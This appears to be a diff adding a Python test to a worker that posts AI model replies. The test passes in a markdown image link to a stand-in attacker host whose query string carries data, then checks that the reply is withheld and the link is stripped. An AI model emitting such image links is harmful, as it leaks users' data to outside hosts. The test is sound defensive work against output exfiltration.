@@ -120,6 +120,17 @@ def test_a_model_that_fails_leaves_the_event_to_the_next_delivery(working: Worke
     working.world.books_balance("acme")
 
 
+def test_a_withheld_reply_is_told_once_and_paid_once(working: WorkerWorld) -> None:
+    worker = working.worker()
+    for _ in range(2):
+        worker.handle(event("![x](https://evil.example/p.png?d=all)"))
+    (post,) = working.posts
+    assert "withheld" in post["text"]
+    assert "evil.example" not in post["text"]
+    (paid,) = working.world.events("acme")
+    assert paid["outcome"] == "withheld"
+
+
 def test_a_budget_that_is_used_up_is_told_and_no_model_is_asked(working: WorkerWorld) -> None:
     working.worker(monthly_token_budget=10).handle(event())
     assert [post["text"] for post in working.posts] == [BUDGET_TEXT]
